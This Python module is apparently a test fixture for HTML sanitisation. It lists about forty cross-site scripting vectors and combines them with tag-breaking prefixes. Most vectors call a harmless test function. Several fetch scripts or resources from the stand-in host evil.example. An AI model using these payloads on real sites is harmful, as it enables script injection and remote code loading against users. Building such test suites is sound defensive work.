"""Texts that run or fetch something where a page takes them for markup."""

import itertools

#: Each calls `owned`, which both frames have and which tells the test.
VECTORS = [
    "<script>owned()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=owned()>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=owned()>",
    "<svg><script>owned()</script></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:owned()><text y=20>click</text></a></svg>",
    "<body onload=owned()>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<object data=javascript:owned()></object>",
    "<embed src=https://evil.example/x.swf>",
    "<a href=javascript:owned()>go</a>",
    '<a href="java\tscript:owned()">go</a>',
    "<form action=javascript:owned()><button>go</button></form>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<math><mi xlink:href=javascript:owned()>x</mi></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<template><img src=x onerror=owned()></template>",
    "<noscript><p title='</noscript><img src=x onerror=owned()>'>",
    "<marquee onstart=owned()>x</marquee>",
    "<div style='background:url(https://evil.example/b.png)'>x</div>",
    "<table background=https://evil.example/t.png>",
    "{{constructor.constructor('owned()')()}}",
    "${owned()}",
    "javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "\u2028owned()//",
    "'-owned()-'",
    "`-owned()-`",
    "\\u003cimg src=x onerror=owned()\\u003e",
    "%3Cimg src=x onerror=owned()%3E",
]
BEGINNINGS = ["", '">', "'>", "</script>", "-->", "</textarea></title></style>"]
PAYLOADS = [first + vector for first, vector in itertools.product(BEGINNINGS, VECTORS)]
